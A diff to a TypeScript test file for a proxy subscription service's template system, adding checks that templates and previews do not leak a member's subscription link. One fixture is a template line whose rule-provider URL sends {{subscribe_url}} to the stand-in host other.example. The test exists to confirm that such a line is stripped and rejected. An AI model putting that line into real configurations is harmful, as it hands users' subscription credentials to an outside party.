@@ -1,7 +1,9 @@
+import { eq } from 'drizzle-orm'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { parse } from 'yaml'
 import { audited } from '../../test/audited.ts'
 import { type Member, startApp, type TestApp } from '../../test/harness.ts'
+import { templateVersions } from './templates.table.ts'
 import { chooseTemplate, type LiveTemplate, shareOf } from './live-templates.ts'
 
 let t: TestApp
@@ -131,14 +133,34 @@ test('after the site is renamed like a group of the template, every link still a
   await admin.call('PATCH', '/admin/settings', { 'site.title': 'Portico' })
 })
 
+test('a template stored before the rule that puts a member’s link into another address is left out', async () => {
+  const { link } = await connected()
+  const version = await save('mihomo', text('Kept'))
+  const leak = `${text('Leak')}rule-providers: {x: {type: http, behavior: domain, url: "https://other.example/?u={{subscribe_url}}"}}\n`
+  await t.database.db.update(templateVersions).set({ text: leak }).where(eq(templateVersions.version, version))
+  await rollOut('mihomo', version, 100)
+  const profile = await fetched(link, 'clash-verge/v2.4.2')
+  expect(profile).not.toContain('other.example')
+  expect(parse(profile)['proxy-groups'][0].name).toBe('Portico')
+  const refused = await admin.call('POST', '/admin/templates', { format: 'mihomo', text: leak, note: '' })
+  expect(refused.status).toBe(422)
+  await rollOut('mihomo', 0, 100)
+})
+
 test('a preview shows what the member’s client would get, and saves nothing', async () => {
   const { member, link } = await connected('JP 1')
   const given = { format: 'mihomo', account_id: member.id, client_version: null }
   const preview = (await admin.call('POST', '/admin/templates/preview', { ...given, text: text('Seen') })).body
-  const { uuid } = (await member.call('GET', '/muser/getSubscribe')).body
   expect(preview).toMatchObject({ faults: [], output_faults: [], nodes: 1, left_out: 0, templated: true })
   expect(parse(preview.output)['proxy-groups']).toEqual([{ name: 'Seen', type: 'select', proxies: ['JP 1'] }])
-  expect(preview.output).toContain(uuid)
+  const { uuid } = (await member.call('GET', '/muser/getSubscribe')).body
+  const surge = `#!MANAGED-CONFIG {{subscribe_url}}\n[Proxy]\n{{proxies}}\n[Proxy Group]\nAll = select, /*/\n[Rule]\nFINAL,All\n`
+  const lines = (await admin.call('POST', '/admin/templates/preview', { ...given, format: 'surge', text: surge })).body.output
+  expect(lines).toContain('/s/example')
+  for (const output of [preview.output, lines]) {
+    expect(output, 'whoever writes templates need not connect as the member').not.toContain(uuid)
+    expect(output).not.toContain(link.split('/').at(-1))
+  }
   expect(await mainGroup(link)).toBe('Portico')
   const broken = (await admin.call('POST', '/admin/templates/preview', { ...given, text: 'a: [' })).body
   expect([broken.output, broken.faults[0].code]).toEqual([null, 'unparsable'])
